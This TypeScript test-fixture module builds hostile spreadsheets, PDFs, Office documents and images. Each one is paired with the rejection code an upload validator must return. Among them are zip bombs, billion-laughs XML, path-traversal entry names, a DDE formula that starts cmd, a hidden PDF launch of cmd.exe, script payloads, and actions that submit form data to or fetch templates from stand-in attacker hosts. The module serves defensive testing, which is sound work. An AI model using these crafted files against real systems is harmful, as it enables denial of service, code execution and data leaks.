import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { docx, documentXml, OFFICE, pdf, pptx, relation, relations, sheetXml, xlsx } from './office-files.ts';
import { zip } from './zip-writer.ts';

/** A file somebody might send, where to, and the code it must be refused with. */
export interface Hostile {
  readonly what: string;
  readonly to: 'import' | 'attach';
  readonly name: string;
  readonly type?: string;
  readonly bytes: Buffer;
  readonly code: string;
}

const MIB = 1024 * 1024;
const SHEET = 'xl/worksheets/sheet1.xml';
const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex');
/** Compresses to one part in about 140: just what is allowed. */
const packsWell = (size: number): Buffer => {
  const bytes = Buffer.alloc(size, 'a');
  for (let at = 0; at < size; at += 16_384) bytes.write(randomBytes(64).toString('base64'), at);
  return bytes;
};
const inText = (text: Buffer): Buffer =>
  Buffer.concat([Buffer.from('<?xml version="1.0"?><sst><si><t>'), text, Buffer.from('</t></si></sst>')]);

const sheets = (): readonly (readonly [string, string, Buffer])[] => {
  const part = (name: string, bytes: string | Buffer) => xlsx([{ name, bytes }]);
  const sheet = (xml: string | Buffer) => part(SHEET, xml);
  const laughs = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>${sheetXml('').slice(55)}`;
  const film = packsWell(60 * MIB);
  return [
    ['a bomb of high ratio', 'file.unpacksTooLarge', sheet(sheetXml(' '.repeat(40 * MIB)))],
    ['a bomb in three parts', 'file.unpacksTooLarge', xlsx([1, 2, 3].map((n) => ({ name: `xl/media/${n}.png`, bytes: film })))],
    ['huge shared strings', 'file.unpacksTooLarge', part('xl/sharedStrings.xml', inText(packsWell(121 * MIB)))],
    [
      'a bomb that denies it',
      'B001',
      xlsx([{ name: 'xl/sharedStrings.xml', bytes: inText(packsWell(30 * MIB)), claims: 500_000 }]),
    ],
    [
      '20,000 entries',
      'file.tooManyParts',
      xlsx(Array.from({ length: 20_000 }, (_, n) => ({ name: `xl/${n}.xml`, bytes: '<a/>' }))),
    ],
    ['an archive as a picture', 'file.embedded', part('xl/media/image1.png', zip([{ name: 'x', bytes: 'x' }]))],
    ['a program as a picture', 'file.embedded', part('xl/media/image1.png', 'MZ program')],
    [
      'an entry that points at another one',
      'B001',
      xlsx([
        { name: 'xl/a.xml', bytes: '<a/>' },
        { name: 'xl/b.xml', bytes: '<a/>', over: 1 },
      ]),
    ],
    ['billion laughs', 'file.strange', sheet(laughs)],
    ['a declaration in UTF-16', 'file.strange', sheet(Buffer.from(`\ufeff${laughs}`, 'utf16le'))],
    ['an external workbook', 'file.external', part('xl/externalLinks/externalLink1.xml', '<a/>')],
    [
      'data from the web',
      'file.external',
      part('xl/worksheets/_rels/sheet1.xml.rels', relations(relation('r1', 'image', 'http://attacker.example/x', true))),
    ],
    ['a macro', 'file.macro', part('xl/vbaProject.bin', OLE)],
    ['a workbook with macros, renamed', 'file.macro', xlsx([], 'application/vnd.ms-excel.sheet.macroEnabled.main+xml')],
    ['an embedded object', 'file.embedded', part('xl/embeddings/oleObject1.bin', OLE)],
    ['an object as a picture', 'file.embedded', part('xl/media/image1.png', OLE)],
    ['a name that climbs', 'file.strange', part('xl/../../../etc/passwd.xml', '<a/>')],
    ['an absolute name', 'file.strange', part('/etc/passwd.xml', '<a/>')],
    ['a name with a drive', 'file.strange', part('C:\\windows\\x.xml', '<a/>')],
    ['an encrypted entry', 'file.encrypted', xlsx([{ name: 'xl/a.xml', bytes: '<a/>', encrypted: true }])],
    ['a truncated file', 'B001', xlsx().subarray(0, 900)],
    ['an empty archive', 'B001', zip([])],
    ['an archive of something else', 'B001', zip([{ name: 'a.xml', bytes: '<a/>' }])],
    ['a page as a workbook', 'B001', Buffer.from('<html><script>alert(1)</script></html>')],
    ['a Word document as a workbook', 'B001', docx()],
    ['a workbook behind a page', 'B001', Buffer.concat([Buffer.from('<html>'), xlsx()])],
    ['a page behind a workbook', 'B001', Buffer.concat([xlsx(), Buffer.from('<script>alert(1)</script>')])],
    ['one byte more than 5 MiB', 'B002', Buffer.concat([xlsx(), Buffer.alloc(5 * MIB + 1 - xlsx().length)])],
    ['nesting without end', 'file.strange', sheet(`<?xml version="1.0"?>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`)],
    [
      'two million empty rows',
      'file.strange',
      sheet(sheetXml(Array.from({ length: 2_000_000 }, (_, n) => `<row r="${n + 1}"/>`).join(''))),
    ],
    ['a formula that starts a program', 'file.external', sheet(sheetXml(`<row><c><f>cmd|'/C calc'!A0</f></c></row>`))],
    ['the same, disguised', 'file.external', sheet(sheetXml(`<row><c><f>cmd&#124;<![CDATA['/C calc'!A0]]></f></c></row>`))],
  ];
};

const others = async (): Promise<readonly (readonly [string, string, string, Buffer, string?])[]> => {
  const picture = sharp({ create: { width: 40, height: 30, channels: 3, background: '#2468ac' } });
  const [png, jpg, gif] = await Promise.all([picture.png().toBuffer(), picture.jpeg().toBuffer(), picture.gif().toBuffer()]);
  const vast = await sharp({ create: { width: 9000, height: 9000, channels: 3, background: 'white' } })
    .png()
    .toBuffer();
  const hidden = deflateSync('1 0 <</S/Launch/F(cmd.exe)>>');
  const objects = Buffer.concat([
    Buffer.from(`3 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${hidden.length}>>stream\n`),
    hidden,
    Buffer.from('\nendstream endobj\n'),
  ]);
  const template = relations(relation('r1', 'attachedTemplate', 'https://attacker.example/t.dotm', true));
  const field = (code: string): string => `<w:r><w:instrText>${code}</w:instrText></w:r>`;
  return [
    ['two endings', 'file.kind', 'invoice.exe.pdf', pdf()],
    ['a drawing with a script', 'file.kind', 'logo.svg', Buffer.from('<svg xmlns="x"><script>alert(1)</script></svg>')],
    ['a drawing as a picture', 'file.kind', 'logo.png', Buffer.from('<svg onload="alert(1)"/>')],
    ['a page', 'file.kind', 'page.html', Buffer.from('<script>alert(1)</script>')],
    ['a GIF as a PNG', 'file.kind', 'a.png', gif],
    ['a declared type that disagrees', 'file.kind', 'a.pdf', pdf(), 'image/png'],
    ['a picture with a page behind it', 'file.otherKind', 'a.png', Buffer.concat([png, Buffer.from('<script>1</script>')])],
    ['a picture cut short', 'file.picture', 'a.jpg', jpg.subarray(0, jpg.length / 2)],
    ['a picture of 81 million points', 'file.picture', 'a.png', vast],
    ['a PDF with an archive behind it', 'file.otherKind', 'a.pdf', Buffer.concat([pdf(), zip([{ name: 'x', bytes: 'x' }])])],
    ['a PDF with a script', 'file.activePdf', 'a.pdf', pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
    ['a PDF that sends what was filled in', 'file.activePdf', 'a.pdf', pdf('/A<</S/SubmitForm/F(https://evil.example)>>')],
    ['a PDF with a form of its own', 'file.activePdf', 'a.pdf', pdf('/AcroForm<</XFA[(x)1 0 R]>>')],
    ['a PDF that opens a share', 'file.activePdf', 'a.pdf', pdf(String.raw`/A<</S/GoToR/F(\\\\host\\share\\a.pdf)>>`)],
    ['a PDF that links to a share', 'file.activePdf', 'a.pdf', pdf(String.raw`/A<</S/URI/URI(\\\\host\\a)>>`)],
    [
      'a PDF that opens a page as it is opened',
      'file.activePdf',
      'a.pdf',
      pdf('/OpenAction<</S/URI/URI(https://evil.example)>>'),
    ],
    ['the same, disguised', 'file.activePdf', 'a.pdf', pdf('/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>')],
    ['a PDF that starts a program, packed', 'file.activePdf', 'a.pdf', pdf('', objects)],
    ['a PDF with a file in it', 'file.activePdf', 'a.pdf', pdf('/Names<</EmbeddedFiles 3 0 R>>')],
    ['a template from the web', 'file.external', 'a.docx', docx([{ name: 'word/_rels/document.xml.rels', bytes: template }])],
    [
      'a field that starts a program',
      'file.external',
      'a.docx',
      docx([{ name: 'word/document.xml', bytes: documentXml(field('DDEAU') + field('TO c:\\\\x')) }]),
    ],
    [
      'an entry inside another one',
      'file.damaged',
      'a.docx',
      docx([
        { name: 'word/media/a.png', bytes: '' },
        { name: 'word/media/b.png', bytes: 'b', inside: true },
      ]),
    ],
    ['a control on a slide', 'file.macro', 'a.pptx', pptx([{ name: 'ppt/activeX/activeX1.xml', bytes: '<a/>' }])],
    ['a workbook as a document', 'file.otherKind', 'a.docx', xlsx(), `${OFFICE}.wordprocessingml.document`],
  ];
};

export async function hostileFiles(): Promise<readonly Hostile[]> {
  return [
    ...sheets().map(([what, code, bytes]): Hostile => ({ what, code, bytes, to: 'import', name: 'import.xlsx' })),
    ...(await others()).map(
      ([what, code, name, bytes, type]): Hostile => ({ what, code, name, bytes, to: 'attach', ...(type && { type }) }),
    ),
  ];
}
